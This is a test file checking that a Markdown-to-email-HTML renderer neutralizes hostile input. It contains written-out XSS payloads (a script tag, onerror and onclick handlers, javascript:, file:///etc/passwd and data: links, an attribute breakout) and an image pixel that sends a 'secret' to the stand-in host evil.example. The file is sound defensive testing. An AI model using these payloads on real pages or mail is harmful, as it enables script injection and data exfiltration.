import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";

describe("Markdown as HTML of a mail", () => {
  it("shows what Markdown means", () => {
    const html = renderMarkdown(
      "# Hi\n\n**bold** `code`\n\n- one\n- [two](https://x.example/?a=1&b=2)\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    );
    expect(html).toContain("<h1>Hi</h1>");
    expect(html).toContain("<strong>bold</strong> <code>code</code>");
    expect(html).toContain('<a href="https://x.example/?a=1&amp;b=2">two</a>');
    expect(html).toContain("<td>1</td>");
  });

  it("lets nothing be loaded or run, whatever a model writes", () => {
    const html = renderMarkdown(
      [
        "<script>alert(1)</script>",
        "",
        'text <img src="https://evil.example/p.png"> and <b onclick="x()">b</b>',
        "",
        "![see](https://evil.example/pixel.png?secret)",
        "",
        "[run](javascript:alert(1)) [file](file:///etc/passwd) [data](data:text/html,x)",
        "",
        '[odd](https://x.example/"onmouseover="x)',
        "",
        "```html\n<iframe src=x></iframe>\n```",
      ].join("\n"),
    );
    expect(html).not.toMatch(/<(?:script|img|b |iframe|svg)/);
    expect(html).not.toMatch(/href="(?!https:)/);
    expect(html).not.toMatch(/<[^>]*\son\w+=/);
    expect(html).toContain('<a href="https://evil.example/pixel.png?secret">see</a>');
  });

  it("escapes text between HTML tags, too", () => {
    expect(
      renderMarkdown("<kbd>a <img src=x onerror=alert(1)//\n\n<script>1 < 2 &amp; 3"),
    ).not.toMatch(/<(?:img|kbd|script)/);
  });

  it("is left out of what is too long or too odd for it", () => {
    expect(renderMarkdown("a".repeat(30_001))).toBeUndefined();
    expect(renderMarkdown("> ".repeat(15_000))).toBeUndefined();
  });
});
